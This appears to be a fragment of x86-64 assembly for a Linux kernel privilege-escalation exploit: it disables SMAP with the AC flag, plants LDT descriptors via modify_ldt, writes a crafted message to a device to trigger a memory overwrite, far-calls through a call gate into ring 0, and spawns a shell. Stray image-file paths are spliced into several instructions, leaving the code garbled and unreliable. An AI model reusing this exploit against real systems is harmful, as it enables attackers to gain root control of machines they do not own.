endvar shell_argvvar module_message
    .byte 0b11101100
endvar module_message

.macro modify_ldt desc:req
    movl $sizeof_\desc, %edx
    leaq \desc(%rip), %rsi
    movl $0x11, %edi
    check_syscall_64 $SYS_modify_ldt, %eax // Result is zero-extended from 32 bits for weird ABI reasons.fn _start
    // Open device
    xorl %edx, %edx
    movl $O_WRONLY, %esi
    leaq module_path(%rip), %rdi
    check_syscall_64 $SYS_open
    movl %eax, %r15d

    // "stac" inCPL3
    orq $(1 << 18), (%rsp)

    // Update the LDT
    modify_ldt user_desc
    modify_ldt high_desc

    // Trigger the overwrite
    movl $sizeof_module_message, %edx
    leaq module_message(%rip), %rsi
    movl%r15d, %edi
    check_syscall_64 $SYS_write

    // Go to CPL 0
    far_ptr gate_target, TARGET_SELECTOR, 0xdead8664
    lcall *(gate_target)

    // Get a shell
    leaq shell_path(%rip), %rdi
    leaqshell_argv(%rip), %rsixorl %edx, %edx
    check_syscall_64 $SYS_execve
    exit_64 $0

// vim:syntax=asm: